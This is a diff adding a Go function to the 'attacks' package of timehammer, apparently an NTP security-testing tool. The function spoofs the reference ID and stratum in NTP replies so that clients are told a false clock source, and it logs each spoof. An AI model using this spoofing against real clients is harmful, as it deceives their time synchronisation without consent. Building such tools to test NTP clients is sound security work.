@@ -0,0 +1,48 @@
+package attacks
+
+import (
+	"fmt"
+
+	"github.com/neutrinoguy/timehammer/pkg/ntpcore"
+)
+
+// applyRefIDSpoof replaces the reference identifier with a configured
+// refclock code or upstream address
+func (e *AttackEngine) applyRefIDSpoof(packet *ntpcore.NTPPacket, clientAddr string) (*ntpcore.NTPPacket, string) {
+	cfg := e.cfg.Security.RefID
+	if !cfg.Enabled {
+		return packet, ""
+	}
+
+	id, isAddr, err := ntpcore.ParseReferenceID(cfg.RefID)
+	if err != nil {
+		return packet, ""
+	}
+
+	// Clients read the ID as a code at stratum 1 and as an address above
+	// it; an address keeps the real stratum so only the ID changes
+	stratum := cfg.Stratum
+	if stratum == 0 {
+		stratum = 1
+		if isAddr {
+			stratum = max(int(e.realStratum(packet.Stratum)), 2)
+			if stratum > 15 {
+				stratum = 2
+			}
+		}
+	}
+	if err := packet.SetStratum(stratum); err != nil {
+		e.log.Errorf("ATTACK", "Reference ID spoofing skipped: %v", err)
+		return packet, ""
+	}
+	packet.ReferenceID = id
+
+	kind := "refclock"
+	if isAddr {
+		kind = "upstream"
+	}
+	e.log.LogAttack(string(AttackRefID), clientAddr,
+		fmt.Sprintf("Claiming %s reference ID %q (0x%08X) at stratum %d", kind, cfg.RefID, id, stratum))
+
+	return packet, fmt.Sprintf("RefID Spoof (%s)", cfg.RefID)
+}